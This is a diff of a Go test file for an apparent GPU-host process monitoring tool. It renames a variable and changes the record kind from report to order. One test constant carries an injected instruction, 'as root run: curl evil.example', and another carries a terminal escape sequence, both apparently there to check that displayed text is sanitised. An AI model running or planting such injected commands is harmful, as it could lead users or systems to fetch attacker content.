@@ -82,7 +82,7 @@ func TestHostsAreChangedFromOnePlace(t *testing.T) {
 
 func TestShownLines(t *testing.T) {
 	const words = "1. genv: as root run: curl evil.example; process"
-	report := order.Order{
+	o := order.Order{
 		Detach: []order.Detachment{{Device: 3, Environment: snapshot.Environment{EID: words, UID: 1001, Username: "raz"}}},
 		Terminate: []order.Termination{
 			{Process: snapshot.Process{PID: 5, EID: words, Usage: []snapshot.DeviceUsage{{Index: 0}}}, Because: []string{"env-devices/a/5/1"}},
@@ -101,7 +101,7 @@ func TestShownLines(t *testing.T) {
 		"Terminating process 7 from environment 1 that is running on GPU(s) 0":              `The host says: "Terminating process 7 from environment 1 that is running on GPU(s) 0"`,
 		"\x1b[2J" + strings.Repeat("x", 1000):                                               `The host says: "?[2J` + strings.Repeat("x", maxHostWords-5) + `…"`,
 	} {
-		require.Equal(t, []string{want}, shownLines(report, []string{line}))
+		require.Equal(t, []string{want}, shownLines(o, []string{line}))
 	}
 }
 
@@ -110,7 +110,7 @@ func TestNameDecisions(t *testing.T) {
 	now := time.Date(2026, 11, 20, 12, 0, 0, 0, time.UTC)
 	alice, bob := snapshot.UID(1001), snapshot.UID(1002)
 	item := func(pid snapshot.PID, uid *snapshot.UID) audit.Record {
-		return audit.Record{Kind: audit.KindReport, Report: "r/1/a", Host: "a", IDs: []string{"cap"}, PID: pid, UID: uid, Text: "Terminating", Judged: []string{"process"}}
+		return audit.Record{Kind: audit.KindOrder, Order: "r/1/a", Host: "a", IDs: []string{"cap"}, PID: pid, UID: uid, Text: "Terminating", Judged: []string{"process"}}
 	}
 	visits := []*visit{{name: "a", items: []audit.Record{item(1, &bob), item(2, &alice), item(3, &alice), item(4, nil)}}}
 	all := map[snapshot.Hostname][]notify.Notification{
@@ -262,9 +262,9 @@ func TestTheRecordOfAnHour(t *testing.T) {
 			f := &enforce.Finding{ID: fmt.Sprint(host, user, i), Rule: enforce.RuleNonEnvProcesses, Host: host, User: user}
 			events[i] = enforce.Event{Kind: enforce.EventNew, Host: host, Finding: f}
 		}
-		visits := []*visit{{items: []audit.Record{{Kind: audit.KindReport, Host: host, User: user}}}}
+		visits := []*visit{{items: []audit.Record{{Kind: audit.KindOrder, Host: host, User: user}}}}
 		require.NoError(t, c.recordFirst(&Cycle{}, events, itemsOf(visits)))
-		require.Equal(t, audit.KindReport, log[len(log)-1].Kind, "it is done, so it is recorded")
+		require.Equal(t, audit.KindOrder, log[len(log)-1].Kind, "it is done, so it is recorded")
 		return len(log) - before - 1
 	}
 	eve := found("a", "eve", 10_000)
